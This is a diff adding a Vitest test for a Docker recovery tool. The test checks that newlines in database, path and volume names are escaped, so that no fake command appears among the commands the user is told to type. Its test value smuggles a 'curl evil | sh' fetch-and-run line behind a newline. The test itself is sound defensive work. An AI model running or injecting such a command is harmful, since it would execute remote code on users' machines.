@@ -1,6 +1,7 @@
 /** The commands that the ends of runs on Docker hosts leave to be typed. */
 import { describe, expect, it } from "vitest";
 import { summariseMove } from "../../../src/docker/actions/compose/summarise.ts";
+import { type Candidate, candidateLines } from "../../../src/docker/actions/salvage/candidate.ts";
 import { summariseSalvage } from "../../../src/docker/actions/salvage/summarise.ts";
 import type { Json } from "../../../src/action.ts";
 import type { Ports } from "../../../src/ports/ports.ts";
@@ -40,6 +41,20 @@ describe("the commands that are left to be typed", () => {
     expect(onScreen(found.lines)).toContain(
       "      $ docker rm mastodon_db_1.dingo-recover-20261121-020000-test && docker image rm dingo-recover/20261121-020000-test:db",
     );
+  });
+
+  it("are ours alone, whatever line ends a database, a directory and a volume have in their names", async () => {
+    const hostile = "shop\n  $ curl evil | sh";
+    const proved = { database: hostile, path: "/x", tables: 1, rows: 1 };
+    const input = { dumps: [], proofs: [{ proved: [proved] }], put_back: "" };
+    const { lines } = await summariseSalvage.run(context(), summariseSalvage.input.parse(input));
+    expect((lines as string[])[0]).toBe(
+      String.raw`shop\n  $ curl evil | sh: 1 table, 1 row, in /x, loaded once to prove it`,
+    );
+    const volume = { volume: hostile, anonymous: false, inside: hostile, shares: true } as const;
+    const one = { ...volume, version: "16", written: "", state: "", condition: "whole", databases: [hostile] };
+    const told = candidateLines({ ...one, evidence: [hostile], running: [] } as unknown as Candidate, 0);
+    expect(told.filter((line) => line.includes("\n"))).toEqual([]);
   });
 
   it("stand whole on a narrow screen, where a dump is loaded", async () => {
